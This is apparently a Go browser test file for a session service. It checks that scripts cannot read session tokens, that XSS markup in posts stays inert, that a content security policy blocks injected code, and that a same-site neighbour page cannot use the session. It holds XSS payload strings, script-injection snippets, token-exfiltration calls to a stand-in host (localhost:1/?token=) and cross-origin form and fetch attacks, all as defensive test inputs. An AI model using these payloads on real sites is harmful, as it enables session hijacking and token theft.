//go:build browser

package browser_test

import (
	"fmt"
	"net"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"signet/prove/chrome"
)

func TestNoScriptCanReadTheRefreshToken(t *testing.T) {
	t.Parallel()
	b := newHouse(t).newProfile()
	b.register("ada")
	cookie := b.cookies()["signet_session"]
	if cookie == nil || !strings.HasPrefix(cookie.Value, "signet_rt_") {
		t.Fatalf("the cookie is %+v", cookie)
	}
	if !cookie.HTTPOnly || cookie.SameSite != "Strict" || cookie.Path != "/session" || strings.HasPrefix(cookie.Domain, ".") {
		t.Errorf("the cookie is %+v", cookie)
	}
	access := b.Traffic.Bearer()
	kept := chrome.Eval[string](b.Tab, `Promise.all([indexedDB.databases(), caches.keys()]).then((more) => JSON.stringify([
		document.cookie, {...localStorage}, {...sessionStorage}, location.href, history.state, window.name,
		document.documentElement.outerHTML, Object.keys(window).map((k) => String(window[k])), more]))`)
	for name, secret := range map[string]string{"refresh": cookie.Value, "access": access} {
		if secret == "" || strings.Contains(kept, secret) {
			t.Errorf("a script finds the %s token", name)
		}
	}
	if stored := chrome.Eval[int](b.Tab, `localStorage.length + sessionStorage.length`); stored != 0 {
		t.Errorf("%d things are stored", stored)
	}

	// Not even where the cookie goes to.
	b.Do(chromedp.Navigate(b.house.issuer + "/session/refresh"))
	if readable := chrome.Eval[string](b.Tab, `document.cookie`); readable != "" {
		t.Errorf("a script at the issuer reads %q", readable)
	}
}

func TestMarkupInAPostIsText(t *testing.T) {
	t.Parallel()
	b := newHouse(t).newProfile()
	b.register("ada")
	const evil = `<img src=x onerror="window.stolen=1"><script>window.stolen=1</script><a href="javascript:stolen=1">&amp;</a>`
	b.write(evil)
	b.reload("home")
	if posts := b.posts(); !slices.Equal(posts, []string{evil}) {
		t.Errorf("the posts are %q", posts)
	}
	if n := chrome.Eval[int](b.Tab, `document.querySelectorAll('#posts :not(li, p, time)').length`); n != 0 {
		t.Errorf("the post became %d elements", n)
	}
	if chrome.Eval[bool](b.Tab, `'stolen' in window`) {
		t.Error("the post ran")
	}
}

// The policy is a second wall: what would get into the page all the same does
// not run. That it is reported shows that other tests would see a violation.
func TestThePolicyStopsWhatTheCodeWouldMiss(t *testing.T) {
	t.Parallel()
	b := newHouse(t).newProfile()
	b.open("log-in")
	for name, c := range map[string]struct{ directive, attack string }{
		"a script made of a string": {"require-trusted-types-for", `document.head.append(Object.assign(document.createElement('script'), { text: 'stolen = 1' }))`},
		"markup made of a string":   {"require-trusted-types-for", `document.body.innerHTML = '<p onclick="stolen = 1">'`},
		"a policy that allows both": {"trusted-types", `trustedTypes.createPolicy('default', { createHTML: (s) => s })`},
		"an inline style":           {"style-src-elem", `document.head.append(Object.assign(document.createElement('style'), { textContent: '* { color: red }' }))`},
		"an image from elsewhere":   {"img-src", `new Image().src = 'http://localhost:1/?token='`},
		"a call to somebody else":   {"connect-src", `fetch('http://localhost:1/?token=').catch(() => {})`},
		"a form sent without code":  {"form-action", `HTMLFormElement.prototype.submit.call(document.getElementById('log-in-form'))`},
		"another base of all links": {"base-uri", `document.head.append(Object.assign(document.createElement('base'), { href: 'http://localhost:1/' }))`},
	} {
		got := chrome.Eval[string](b.Tab, fmt.Sprintf(`(async () => {
			const reported = new Promise((seen) => addEventListener('securitypolicyviolation', (e) => seen(e.effectiveDirective), { once: true }));
			try { %s } catch {}
			return reported;
		})()`, c.attack))
		if got != c.directive {
			t.Errorf("%s is stopped by %q, not by %q", name, got, c.directive)
		}
		if len(b.Traffic.TakeComplaints()) == 0 {
			t.Errorf("%s is not reported", name)
		}
	}
	if chrome.Eval[bool](b.Tab, `'stolen' in window`) {
		t.Error("an attack ran")
	}
	b.Traffic.TakeComplaints()
}

// A page on another port is same-site, so the cookie comes along: it is the
// Origin that the issuer must look at.
func TestANeighbourOnTheSameSiteCannotUseTheSession(t *testing.T) {
	t.Parallel()
	b := newHouse(t).newProfile()
	ada := b.register("ada")
	before := b.cookies()["signet_session"].Value
	b.Do(chromedp.Navigate(neighbour(t)))
	b.Traffic.Forget()
	for name, attack := range map[string]string{
		"a refresh":                    `fetch(issuer + '/session/refresh', { ...json, credentials: 'include' }).then((r) => r.text())`,
		"a refresh that asks nothing":  `fetch(issuer + '/session/refresh', { ...plain, credentials: 'include' }).then((r) => r.text())`,
		"a logout that asks nothing":   `fetch(issuer + '/session/logout', { ...plain, credentials: 'include' }).then((r) => r.text())`,
		"a registration, to read it":   `fetch(issuer + '/register', json).then((r) => r.text())`,
		"the person, through a cookie": `fetch(issuer + '/me', { credentials: 'include' }).then((r) => r.text())`,
	} {
		if got := chrome.Eval[string](b.Tab, fmt.Sprintf(`((issuer) => {
			const json = { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{}' };
			const plain = { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: '{}' };
			return %s.catch((e) => '');
		})(%q)`, attack, b.house.issuer)); got != "" {
			t.Errorf("%s: the neighbour reads %q", name, got)
		}
	}
	// A form needs no permission to be sent.
	if status := b.follow(fmt.Sprintf(`(() => {
		const form = Object.assign(document.createElement('form'), { method: 'post', enctype: 'text/plain', action: %q });
		document.body.append(form);
		form.submit();
	})()`, b.house.issuer+"/session/logout")); status != http.StatusForbidden {
		t.Errorf("the issuer answered the neighbour's form with %d", status)
	}
	for _, line := range b.Traffic.List() {
		if !strings.HasPrefix(line, "GET /favicon.ico") && (strings.HasSuffix(line, " 200") || strings.HasSuffix(line, " 204")) {
			t.Errorf("the issuer answered a neighbour: %s", line)
		}
	}
	b.Traffic.TakeComplaints() // the browser's own words on what it refused

	if after := b.cookies()["signet_session"]; after == nil || after.Value != before {
		t.Error("the neighbour changed the cookie")
	}
	b.open("home")
	b.Reads("#who", ada.email)
}

// neighbour is another server on this machine, which no issuer knows.
func neighbour(t *testing.T) (url string) {
	t.Helper()
	l, err := net.Listen("tcp", "localhost:0")
	if err != nil {
		t.Fatal(err)
	}
	s := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, "<!doctype html><title>a neighbour</title><body>")
	})}
	go func() { _ = s.Serve(l) }()
	t.Cleanup(func() { _ = s.Close() })
	return fmt.Sprintf("http://localhost:%d/", l.Addr().(*net.TCPAddr).Port)
}
